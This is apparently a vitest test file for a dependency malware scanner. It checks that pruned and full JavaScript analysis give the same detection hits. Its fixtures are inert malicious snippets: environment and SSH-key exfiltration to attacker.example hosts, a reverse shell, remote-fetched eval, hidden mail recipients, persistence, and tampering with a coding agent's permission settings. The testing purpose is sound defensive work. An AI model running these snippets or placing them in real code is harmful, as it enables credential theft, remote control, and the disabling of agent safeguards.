import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { analyseSource, type SourceFile } from '../../../src/scan/analysis/bundle.js';
import { analyzeJs, nestingDepth } from '../../../src/scan/analysis/js/analyze.js';
import { analyseAll } from '../../../src/scan/analysis/pool.js';
import { malwareHits } from '../../../src/scan/analysis/rules/malware.js';
import { secretHits } from '../../../src/scan/controls/cq-01.js';

// Inert text, parsed and never run. Every CQ-02 family that reads calls, assignments or strings
// in dependency code appears at least once, so pruned facts are compared where it matters.
const SNIPPETS: Record<string, string> = {
  'harvest.js': "const https = require('https');\nconst body = JSON.stringify(process.env);\nhttps.request({ host: 'webhook.site' }).end(body);\nconst all = { ...process.env };\nfetch('https://attacker.example', { body: Object.entries(process.env) });",
  'creds.js': "const os = require('os');\nconst fs = require('fs');\nconst k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nfetch('https://collector.attacker.example', { method: 'POST', body: k });",
  'tamper.js': "const fs = require('fs');\nconst os = require('os');\nfs.writeFileSync(os.homedir() + '/.claude/settings.json', '{}');\nfs.appendFileSync(os.homedir() + '/.bashrc', 'x');\nrequire('child_process').execSync('claude --dangerously-skip-permissions -p hi');\nrequire('child_process').exec('crontab /tmp/x');",
  'shell.js': "const net = require('net');\nconst { spawn } = require('child_process');\nfunction go() { const c = net.connect(4444, '192.0.2.1'); const sh = spawn('/bin/sh', []); c.pipe(sh.stdin); }",
  'decode.js': "const vm = require('vm');\neval(atob('Y29uc29sZS5sb2coMSk='));\nconst x = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString();\nvm.runInThisContext(x);\nrequire('child_process').execSync('npm install left-pad');\nfetch('https://attacker.example/x').then((r) => r.text()).then(eval);",
  'mail.js': "const nodemailer = require('nodemailer');\nconst t = nodemailer.createTransport({});\nt.sendMail({ to: user, bcc: 'drop@attacker.example', cc: 'copy@attacker.example' });\nmsg.addHeader('Bcc', 'drop@attacker.example');",
  'silent.js': "const { spawn } = require('child_process');\nspawn('node', ['x.js'], { detached: true, stdio: 'ignore' }).unref();\nconst k = require('iohook');\nconst r = require('reqeusts');\nimport('lodahs');",
  'secret.js': "const token = atob('Z2hwX0FCQ0RFRkdISUpLTE1OT1BRUlNUVVZXWFlaYWJjZGVmZ2hpajEyMw==');\nconst env = { env: process.env };\nspawnChild({ env: { ...process.env } });",
};

function referenceFiles(): [string, string][] {
  const out: [string, string][] = [];
  const walk = (dir: string) => {
    for (const e of readdirSync(dir, { withFileTypes: true })) {
      const p = join(dir, e.name);
      if (e.isDirectory()) walk(p);
      else if (/\.js$/.test(e.name)) out.push([p, readFileSync(p, 'utf8')]);
    }
  };
  for (const s of ['server-filesystem', 'server-everything', 'server-memory']) walk(join('node_modules/@modelcontextprotocol', s, 'dist'));
  return out;
}

/** The same dependency file analysed with full facts (server-code mode). */
async function withFullFacts(file: SourceFile): Promise<SourceFile> {
  return { ...file, facts: await analyzeJs(file.path, file.text, { dependency: false }) };
}

describe('dependency-mode JS facts', () => {
  it('give the same CQ-01 and CQ-02 hits as full facts, on malicious snippets and the reference servers', async () => {
    const inputs: [string, string][] = [...Object.entries(SNIPPETS).map(([p, t]): [string, string] => [`node_modules/evil/${p}`, t]), ...referenceFiles()];
    expect(inputs.length).toBeGreaterThan(20);
    const rules = new Set<string>();
    for (const [path, text] of inputs) {
      const pruned = await analyseSource({ path, text, isDependency: true });
      const full = await withFullFacts(pruned);
      expect(pruned.facts!.calls.length).toBeLessThanOrEqual(full.facts!.calls.length);
      const hits = malwareHits(pruned);
      expect(hits, path).toEqual(malwareHits(full));
      expect(secretHits(pruned), path).toEqual(secretHits(full));
      for (const h of hits) rules.add(h.rule);
    }
    // The comparison is not vacuous: the snippets fire the families that read pruned facts.
    for (const r of ['env-harvest', 'credential-read', 'agent-config-tamper', 'persistence', 'reverse-shell', 'obfuscated-exec', 'download-exec', 'hidden-recipient', 'silent-spawn', 'surveillance', 'typosquat-import']) {
      expect(rules, r).toContain(r);
    }
  });

  it('drop calls and comparisons no dependency rule reads', async () => {
    const text = "const a = foo(1, 2);\nif (token === secret) bar();\nrequire('child_process').exec(cmd);";
    const dep = await analyseSource({ path: 'node_modules/x/a.js', text, isDependency: true });
    const server = await analyseSource({ path: 'server/a.js', text });
    expect(dep.facts!.calls.map((c) => c.callee)).toEqual(['child_process.exec', 'require']);
    expect(server.facts!.calls.map((c) => c.callee)).toContain('foo');
    expect(dep.facts!.comparisons).toEqual([]);
    expect(server.facts!.comparisons).toHaveLength(1);
  });
});

describe('analysis pool', () => {
  it('returns facts in job order, equal to one-by-one analysis (in-process when no worker.js exists)', async () => {
    const jobs = Object.entries(SNIPPETS).map(([p, text]) => ({ path: `server/${p}`, text, language: 'js' as const }));
    const pooled = await analyseAll(jobs, { workers: 2 });
    const single = await Promise.all(jobs.map((j) => analyzeJs(j.path, j.text)));
    expect(pooled).toEqual(single);
  });
});

describe('nesting pre-scan', () => {
  it('counts brackets plus right-recursive runs, and keywords only as whole words', () => {
    expect(nestingDepth('a(b[c{d}])')).toBe(3);
    expect(nestingDepth('x = y = z = 1;')).toBe(3);
    expect(nestingDepth('a == b; c <= d; e >= f')).toBe(0);
    expect(nestingDepth('typeof typeof void await new x')).toBe(5);
    expect(nestingDepth('typeofx voids anew')).toBe(0);
    expect(nestingDepth('- - - 1, ! ~ ? 2')).toBe(3);
    expect(nestingDepth('((( )))é(')).toBe(3);
  });
});
